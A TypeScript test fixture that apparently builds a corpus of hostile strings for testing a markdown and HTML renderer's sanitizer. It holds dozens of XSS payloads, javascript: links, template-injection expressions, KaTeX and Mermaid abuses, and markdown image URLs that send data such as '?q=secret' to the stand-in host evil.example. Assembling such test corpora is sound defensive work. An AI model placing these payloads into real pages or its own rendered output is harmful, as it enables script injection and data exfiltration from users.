/** Whoever gets one of these to run calls `canary`; whoever gets one to be fetched asks this host. */
const host = 'evil.example'

/** What runs, or is fetched, if a text becomes HTML anywhere. */
const html = [
  '<script>canary()</script>',
  `<script src="https://${host}/s.js"></script>`,
  '<ScRiPt >canary()</ScRiPt>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  `<img src=x onerror=canary()>`,
  `<img src="https://${host}/i.png">`,
  `<img srcset="https://${host}/i.png 1x" loading=eager>`,
  `<picture><source srcset="https://${host}/p.png"><img></picture>`,
  '<svg/onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  `<svg><image href="https://${host}/svg.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>canary()</script></svg>#x"/></svg>`,
  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<math><mi//xlink:href="data:x,<script>canary()</script>">',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:canary()">a</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<template><img src=x onerror=canary()></template>',
  '<template shadowrootmode=open><script>canary()</script></template>',
  `<iframe src="https://${host}/f"></iframe>`,
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  `<object data="https://${host}/o"></object><embed src="https://${host}/e">`,
  `<link rel=stylesheet href="https://${host}/l.css">`,
  `<link rel=preload as=image href="https://${host}/pre.png"><link rel=dns-prefetch href="//${host}">`,
  `<style>@import "https://${host}/c.css"; * { background: url(https://${host}/bg.png) }</style>`,
  `<div style="background:url(https://${host}/st.png);position:fixed;inset:0">covered</div>`,
  `<meta http-equiv=refresh content="0;url=https://${host}/m"><base href="https://${host}/">`,
  `<video poster="https://${host}/v.png" src="https://${host}/v.mp4" onloadstart=canary()></video>`,
  `<audio src="https://${host}/a.mp3" autoplay onerror=canary()></audio>`,
  `<form action="https://${host}/form"><input name=q autofocus onfocus=canary()><button>Sign in</button></form>`,
  '<details open ontoggle=canary()><summary>x</summary></details>',
  '<body onload=canary()><marquee onstart=canary()>x</marquee>',
  '<a href="javascript:canary()" id=x tabindex=1 onfocus=canary() autofocus>a</a>',
  `<a ping="https://${host}/ping" href="https://${host}/">b</a>`,
  '<!--><img src=x onerror=canary()>-->',
  '<![CDATA[<img src=x onerror=canary()>]]>',
  '<?xml version="1.0"?><img src=x onerror=canary()>',
  '</textarea><img src=x onerror=canary()>',
  '</title><script>canary()</script>',
  '&lt;img src=x onerror=canary()&gt; &#60;script&#62;canary()&#60;/script&#62;',
  '\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
  '＜script＞canary()＜/script＞',
  '<im\u0000g src=x onerror=canary()>',
]

/** What frameworks would run, were a text ever taken for a template. */
const templates = [
  '{{constructor.constructor("canary()")()}}',
  '{@html "<img src=x onerror=canary()>"}',
  '{canary()}',
  '${canary()}',
  '<%= canary() %>',
  '#{canary()}',
  '[[canary()]]',
  'v-html="canary()"',
]

const links = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  'java\tscript:canary()',
  ' javascript:canary()',
  '\u0001javascript:canary()',
  '&#106;avascript:canary()',
  'javascript&colon;canary()',
  'javascript:canary()//https://good.example',
  'data:text/html,<script>canary()</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgpIi8+',
  'vbscript:canary()',
  'blob:https://good.example/x',
  'file:///etc/passwd',
  'filesystem:x',
  'view-source:https://good.example',
  `//${host}/protocol`,
  `https://good.example@${host}/`,
  `\\\\${host}\\share`,
  'https:javascript:canary()',
]
const written = links.flatMap((link) => [
  `[a](${link})`,
  `[a](<${link}>)`,
  `<${link}>`,
  `![a](${link})`,
  `[a][l]\n\n[l]: ${link}`,
])

/** An image's address alone carries what was said to a stranger. */
const images = [
  `![x](https://${host}/i.png?q=secret)`,
  `![x][img]\n\n[img]: https://${host}/ref.png`,
  `![img]\n\n[img]: https://${host}/short.png`,
  `[![x](https://${host}/in-link.png)](https://good.example)`,
  `![x](https://${host}/t.png "title")`,
  `![x](<https://${host}/angle.png>)`,
  `| ![x](https://${host}/cell.png) |\n|---|\n| ![y](https://${host}/row.png) |`,
  `- ![x](https://${host}/item.png)`,
  `> ![x](https://${host}/quote.png)`,
  `[^1]\n\n[^1]: ![x](https://${host}/note.png)`,
  `https://${host}/auto.png www.${host}/auto.png`,
  `\`![x](https://${host}/code.png)\``,
]

const formulas = [
  '$\\href{javascript:canary()}{x}$',
  `$\\includegraphics{https://${host}/math.png}$`,
  '$\\htmlStyle{background:url(x)}{x}$ $\\htmlId{x}{y}$ $\\htmlClass{z}{y}$ $\\htmlData{a=b}{c}$',
  `$\\url{https://${host}/}$`,
  '$\\unicode{<img src=x onerror=canary()>}$ $\\text{<img src=x onerror=canary()>}$',
  '$\\color{red;background:url(https://evil.example/c.png)}x$',
  `$$\n\\def\\a#1{#1#1}${'\\a{'.repeat(40)}x${'}'.repeat(40)}\n$$`,
  `$$\n${'\\sqrt{'.repeat(600)}x${'}'.repeat(600)}\n$$`,
  '$\\rule{99999em}{99999em}$ $\\kern{99999em}x$',
]

const diagrams = [
  '```mermaid\nflowchart LR\n  a["<img src=x onerror=canary()>"] --> b\n  click a "javascript:canary()"\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://${host}/m.css)"}}%%\nflowchart LR\n  a --> b\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\n  a@{ img: "https://${host}/node.png" } --> b\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\n${'  a --> b & c & d & e\n'.repeat(300)}\`\`\``,
  '```"onload=canary()\n</code><script>canary()</script>\n```',
  '```<script>canary()</script>\nx\n```',
]

const oddities = [
  '\u001b[31mred\u001b[0m \u001b]8;;javascript:canary()\u0007link\u001b]8;;\u0007',
  'safe\u202Egnp.exe\u202C and \u2066isolated\u2069',
  'one\r\n\r\nevent: end\r\ndata: {"status":"failed"}\r\n\r\ntwo',
  '\u2028\u2029\u0085canary()',
  '\ufeff<script>canary()</script>',
  'é\u0301'.repeat(50) + '\u0489'.repeat(50),
  '[a](https://b.example "x\\" onmouseover=\\"canary()")',
  'https://b.example/"onmouseover="canary()',
  '[^<img src=x onerror=canary()>]: note',
]

export const corpus: readonly string[] = [
  ...html,
  ...templates,
  ...written,
  ...images,
  ...formulas,
  ...diagrams,
  ...oddities,
]

/** Those that stand on one line, as names and titles do. */
export const oneLiners: readonly string[] = corpus.filter(
  (text) => !/[\r\n]/.test(text) && !text.includes('\u0000') && text.length < 150,
)
